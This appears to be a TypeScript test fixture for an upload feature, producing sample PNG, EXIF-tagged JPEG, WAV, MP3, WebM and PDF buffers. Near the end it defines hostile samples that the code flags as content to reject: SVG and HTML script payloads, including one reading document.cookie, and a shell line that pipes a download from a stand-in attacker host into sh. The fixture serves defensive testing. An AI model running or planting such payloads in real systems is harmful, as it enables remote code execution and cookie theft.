import sharp from 'sharp';
import { housePhoto } from '../../src/seed/png';

/** Sample files for upload tests, made in memory: real formats, so content sniffing sees what a browser would send. */

export const png = (width = 64, height = 48) => housePhoto(width, height, [200, 100, 80], [60, 40, 40], [120, 170, 230]);

/** A JPEG carrying EXIF with a GPS position (Amsterdam), a camera model and an orientation. */
export const jpegWithGps = () =>
  sharp(png(320, 240))
    .jpeg()
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Camera 12', Orientation: '1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 22/1 12/1', GPSLongitudeRef: 'E', GPSLongitude: '4/1 53/1 24/1' },
    })
    .toBuffer();

/** 0.1 s of silent 8 kHz mono PCM in a RIFF/WAVE container. */
export const wav = (samples = 800) => {
  const data = Buffer.alloc(samples * 2);
  const header = Buffer.alloc(44);
  header.write('RIFF', 0);
  header.writeUInt32LE(36 + data.length, 4);
  header.write('WAVE', 8);
  header.write('fmt ', 12);
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(8000, 24);
  header.writeUInt32LE(16000, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write('data', 36);
  header.writeUInt32LE(data.length, 40);
  return Buffer.concat([header, data]);
};

/** An ID3v2 tag followed by MPEG-1 Layer III frame headers. */
export const mp3 = () =>
  Buffer.concat([Buffer.from('ID3\x03\x00\x00\x00\x00\x00\x0a', 'latin1'), Buffer.alloc(10), Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(413)]);

/** The EBML header of a WebM file, as MediaRecorder writes it (detected as video/webm). */
export const webm = () => Buffer.concat([Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d4287810442858102', 'hex'), Buffer.alloc(200)]);

/** Active content that must never be stored as a client file. */
export const svgWithScript = () =>
  Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>');
export const svgWithoutProlog = () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
export const html = () => Buffer.from('<!doctype html><html><body><script>fetch("/admin/users/me")</script></body></html>');
export const xml = () => Buffer.from('<?xml version="1.0"?><note><to>agent</to></note>');
export const script = () => Buffer.from('#!/bin/sh\ncurl https://attacker.test | sh\n');
export const pdf = () => Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
